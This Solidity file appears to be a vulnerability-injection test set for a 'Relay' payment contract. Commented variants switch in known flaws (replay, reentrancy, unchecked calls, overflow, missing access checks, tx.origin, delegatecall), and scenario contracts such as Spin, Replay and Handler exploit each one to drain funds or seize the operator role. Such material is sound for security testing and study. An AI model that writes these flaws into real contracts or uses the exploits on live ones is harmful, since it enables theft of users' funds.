// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Relay {
    address public operator;
    bool public paused;
    uint64 public fees;
    mapping(address => uint256) public deposits;
    mapping(address => uint256) public nonceOf;
    mapping(address => bool) public handlers;
    mapping(bytes32 => bool) public done;

    function start(address operator_) external {
        //[
        require(operator == address(0), "started before");
        //| initialiser Restart
        //]
        operator = operator_;
    }

    function deposit() external payable {
        //[
        require(!paused, "paused");
        //| guard Unpaused
        //]
        deposits[msg.sender] += msg.value;
    }

    function pay(address from, address payable to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        //[
        uint256 nonce = nonceOf[from]++;
        //| replay Replay
        //: uint256 nonce = nonceOf[from];
        //]
        bytes32 digest = keccak256(abi.encode(to, amount, nonce));
        require(from != address(0) && ecrecover(digest, v, r, s) == from, "bad signature");
        deposits[from] -= amount;
        to.transfer(amount);
    }

    function payOnce(address from, address payable to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode("once", to, amount));
        require(from != address(0) && ecrecover(digest, v, r, s) == from, "bad signature");
        //[
        require(!done[digest], "done before");
        //| replay Redo
        //]
        done[digest] = true;
        deposits[from] -= amount;
        to.transfer(amount);
    }

    function withdraw() external {
        uint256 credited = deposits[msg.sender];
        //[
        deposits[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: credited}("");
        require(ok, "failed");
        //| reentrancy Spin
        //: (bool ok, ) = msg.sender.call{value: credited}("");
        //: require(ok, "failed");
        //: deposits[msg.sender] = 0;
        //| unchecked-call Dropped
        //: deposits[msg.sender] = 0;
        //: (bool ok, ) = msg.sender.call{value: credited}("");
        //: ok;
        //]
    }

    function addFee(uint256 amount) external {
        require(msg.sender == operator, "not the operator");
        //[
        require(amount <= type(uint64).max - fees, "fee too large");
        //| cast Overflow
        //]
        fees += uint64(amount);
        deposits[address(this)] += amount;
    }

    function setHandler(address handler, bool allowed) external {
        //[
        require(msg.sender == operator, "not the operator");
        //| access Register
        //| tx.origin OriginHandler
        //: require(tx.origin == operator, "not the operator");
        //]
        handlers[handler] = allowed;
    }

    function handle(address handler, bytes calldata data) external payable {
        //[
        require(handlers[handler], "unknown handler");
        (bool ok, ) = handler.delegatecall(data);
        //| delegatecall Handler
        //: (bool ok, ) = handler.delegatecall(data);
        //]
        require(ok, "handler failed");
    }

    function pause(bool on) external {
        //[
        require(msg.sender == operator, "not the operator");
        //| access Halt
        //]
        paused = on;
    }
}

//! scene
contract Scene {
    Actor ann = new Actor();
    Relay target = new Relay();

    constructor() {
        target.start(address(ann));
    }

    receive() external payable virtual {}

    function put(Actor who, uint256 value) internal returns (bool) {
        return who.act{value: value}(address(target), abi.encodeCall(Relay.deposit, ()));
    }
}


contract Evil {
    address public operator;

    function take() external payable {
        operator = msg.sender;
    }
}

contract Bank {
    address operator;
    bool paused;
    uint64 fees;
    mapping(address => uint256) deposits;

    function give(address to) external payable {
        deposits[to] += msg.value;
    }
}

contract Use is Scene {
    function run() external payable returns (bool) {
        bool ok = put(ann, 3 ether) && ann.act(address(target), abi.encodeCall(Relay.withdraw, ()));
        address bank = address(new Bank());
        ok = ok && ann.act(address(target), abi.encodeCall(Relay.setHandler, (bank, true)));
        address from = Sig.signerOf(keccak256(abi.encode(address(0xb09), 1 ether, uint256(0))));
        target.handle{value: 2 ether}(bank, abi.encodeCall(Bank.give, (from)));
        target.pay(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        from = Sig.signerOf(keccak256(abi.encode("once", address(0xb09), 1 ether)));
        target.handle{value: 1 ether}(bank, abi.encodeCall(Bank.give, (from)));
        target.payOnce(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        ok = ok && ann.act(address(target), abi.encodeCall(Relay.addFee, (5)));
        ok = ok && ann.act(address(target), abi.encodeCall(Relay.pause, (true)));
        return ok && address(target).balance == 1 ether && target.fees() == 5 && target.paused();
    }
}

contract Restart is Scene {
    function run() external payable returns (bool) {
        target.start(address(this));
        return target.operator() == address(this);
    }
}

contract Unpaused is Scene {
    function run() external payable returns (bool) {
        ann.act(address(target), abi.encodeCall(Relay.pause, (true)));
        target.deposit{value: 1}();
        return target.deposits(address(this)) == 1;
    }
}

contract Replay is Scene {
    function run() external payable returns (bool) {
        address bank = address(new Bank());
        ann.act(address(target), abi.encodeCall(Relay.setHandler, (bank, true)));
        address from = Sig.signerOf(keccak256(abi.encode(address(0xb09), 1 ether, uint256(0))));
        target.handle{value: 2 ether}(bank, abi.encodeCall(Bank.give, (from)));
        target.pay(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        target.pay(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        return address(target).balance == 0;
    }
}

contract Redo is Scene {
    function run() external payable returns (bool) {
        address bank = address(new Bank());
        ann.act(address(target), abi.encodeCall(Relay.setHandler, (bank, true)));
        address from = Sig.signerOf(keccak256(abi.encode("once", address(0xb09), 1 ether)));
        target.handle{value: 2 ether}(bank, abi.encodeCall(Bank.give, (from)));
        target.payOnce(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        target.payOnce(from, payable(address(0xb09)), 1 ether, 27, Sig.R, Sig.S);
        return address(target).balance == 0;
    }
}

contract Spin is Scene {
    uint256 left = 2;

    receive() external payable override {
        if (left > 0) {
            left--;
            target.withdraw();
        }
    }

    function run() external payable returns (bool) {
        put(ann, 9 ether);
        target.deposit{value: 2 ether}();
        uint256 had = address(this).balance;
        target.withdraw();
        return address(this).balance > had + 2 ether;
    }
}

contract Dropped is Scene {
    function run() external payable returns (bool) {
        Mute mute = new Mute();
        mute.act{value: 1 ether}(address(target), abi.encodeCall(Relay.deposit, ()));
        mute.act(address(target), abi.encodeCall(Relay.withdraw, ()));
        return target.deposits(address(mute)) == 0;
    }
}

contract Overflow is Scene {
    function run() external payable returns (bool) {
        bool ok = ann.act(address(target), abi.encodeCall(Relay.addFee, (1 << 64)));
        return ok && target.fees() == 0;
    }
}

contract Register is Scene {
    function run() external payable returns (bool) {
        target.setHandler(address(this), true);
        return target.handlers(address(this));
    }
}

contract OriginHandler {
    function run() external payable returns (bool) {
        Relay target = new Relay();
        target.start(tx.origin);
        target.setHandler(address(this), true);
        return target.handlers(address(this));
    }
}

contract Handler is Scene {
    function run() external payable returns (bool) {
        target.handle(address(new Evil()), abi.encodeCall(Evil.take, ()));
        return target.operator() == address(this);
    }
}

contract Halt is Scene {
    function run() external payable returns (bool) {
        target.pause(true);
        return target.paused();
    }
}
